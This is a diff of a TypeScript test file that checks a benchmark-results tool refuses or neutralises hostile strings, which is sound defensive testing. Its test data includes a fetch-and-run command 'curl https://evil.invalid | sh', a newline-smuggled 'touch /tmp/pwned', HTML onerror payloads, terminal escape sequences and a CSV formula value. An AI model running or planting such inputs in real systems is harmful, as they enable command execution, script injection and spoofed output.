@@ -2,14 +2,16 @@ import assert from "node:assert/strict";
 import { mkdirSync, writeFileSync } from "node:fs";
 import { dirname } from "node:path";
 import { describe, it } from "node:test";
-import { escapeMarkdown, escapeMarkup } from "../../src/core/markup.ts";
+import { csvField, escapeMarkdown, escapeMarkup, plainText, plainValue, shellComment } from "../../src/core/markup.ts";
+import { checkAgainst } from "../../src/core/schema.ts";
+import type { ResultDocument } from "../../src/results/types.ts";
 import { gabEntries } from "../../src/export/gab.ts";
 import { regressionsAtom } from "../../src/regressions/feed-atom.ts";
 import { detectRegressions } from "../../src/regressions/detect.ts";
 import { resultPath } from "../../src/results/store.ts";
 import { html } from "../../src/site/html.ts";
 import { bench, tempDir } from "../../benchmarks/lib/cli.ts";
-import { makeResult } from "../../benchmarks/lib/documents.ts";
+import { makeResult, metricOf } from "../../benchmarks/lib/documents.ts";
 import { syntheticHistory } from "../helpers/series.ts";
 
 const FENCE = "22.0.0\n```\n@maintainer <img src=x onerror=alert(1)>";
@@ -35,6 +37,38 @@ describe("strings from results, where they reach Markdown, HTML and Atom", () =>
     const refused = result.stderr.split("\n").filter((line) => /\/runtime\/version: must match pattern/.test(line));
     assert.equal(refused.length, versions.length, result.stderr);
     assert.doesNotMatch(result.stderr, /20261101T000009Z/, "a canary's pre-release and build parts are a version");
+  });
+
+  it("the schema refuses a control character in every string a result carries, and a reproduce command that runs anything else", () => {
+    const base = makeResult();
+    const wall = base.metrics.wall_ms!;
+    const hostile: [string, ResultDocument][] = [
+      ["/params/mode", makeResult({ params: { mode: "fast\ntouch /tmp/pwned" } })],
+      ["/params", makeResult({ params: { "mode\r": 1 } })],
+      ["/metrics/wall_ms/unit", makeResult({ metrics: { wall_ms: { ...wall, unit: "ms\u001b]8;;https://evil.invalid\u0007" } } })],
+      ["/metrics", makeResult({ metrics: { "wall ms": wall } })],
+      ["/tools/hyperfine", makeResult({ tools: { hyperfine: "1.15.0\u2028echo" } })],
+      ["/environment/cpu_model", makeResult({ environment: { cpu_model: "Test\u202eCPU" } })],
+      ["/runtime/spec", makeResult({ runtime: { ...base.runtime, spec: "node@22.11.0\n" } })],
+      ["/error", makeResult({ status: "failed", metrics: {}, error: "\u001b[2J" })],
+      ["/details/stderr/0", makeResult({ details: { stderr: ["\u0000"] } })],
+      ["/reproduce", makeResult({ reproduce: "scripts/bench run --suite startup; curl https://evil.invalid | sh" })],
+    ];
+    for (const [field, doc] of hostile) {
+      const problems = checkAgainst("result.schema.json", doc);
+      assert.ok(problems.some((problem) => problem.startsWith(`${field}: `)), `${field} refused:\n${problems.join("\n")}`);
+    }
+    const plain = makeResult({ status: "failed", metrics: {}, error: "exited 1:\n\tat main (x.js:1)", details: { stderr: "line 1\nline 2", facts: [{ n: 1, ok: true, none: null }] } });
+    assert.deepEqual(checkAgainst("result.schema.json", plain), [], "free text keeps its line breaks and tabs");
+  });
+
+  it("a process's output becomes plain text before a result keeps it; a comment or a CSV field stays what it is", () => {
+    assert.equal(plainText("\u001b[31mred\u001b[0m\r\nnext\rlast\t!"), "[31mred[0m\nnext\nlast\t!");
+    assert.deepEqual(plainValue({ "a\nb": ["\u0007x", 1, null, { c: "\u202ey" }] }), { "a b": ["x", 1, null, { c: "y" }] });
+    assert.equal(shellComment("startup/hello mode=a\ntouch /tmp/pwned\r\u2028b"), "# startup/hello mode=a touch /tmp/pwned  b");
+    assert.equal(csvField("=1+1"), "'=1+1");
+    assert.equal(csvField("a,b"), '"a,b"');
+    assert.equal(csvField(-1.5), "-1.5");
   });
 
   it("Markdown: no fence, mention, HTML, link, emphasis or table column survives", () => {
@@ -72,5 +106,15 @@ describe("strings from results, where they reach Markdown, HTML and Atom", () =>
       assert.doesNotMatch(entry.name, /[`<>@|[\]()*]/, entry.name);
       assert.doesNotMatch(entry.extra, /[`<>@|]/, entry.extra);
     }
+  });
+
+  it("github-action-benchmark's unit, which it prints raw into its summary table and alert comment, carries no markup", () => {
+    const unit = "<img src=x onerror=alert(1)> | @maintainer <!-- [x](https://evil.invalid)\n";
+    const doc = makeResult({ metrics: { wall_ms: metricOf([30, 31, 29], unit) } });
+    const [entry] = gabEntries([doc], "lower");
+    assert.ok(entry);
+    assert.doesNotMatch(entry.unit, /[`<>@|[\]()!\n]/, entry.unit);
+    assert.doesNotMatch(entry.extra, /[`<>@|!]|\]\(/, entry.extra);
+    assert.equal(gabEntries([makeResult({ metrics: { rtt_us: metricOf([3, 4, 5], "µs") } })], "lower")[0]!.unit, "µs", "a plain unit stays as it is");
   });
 });
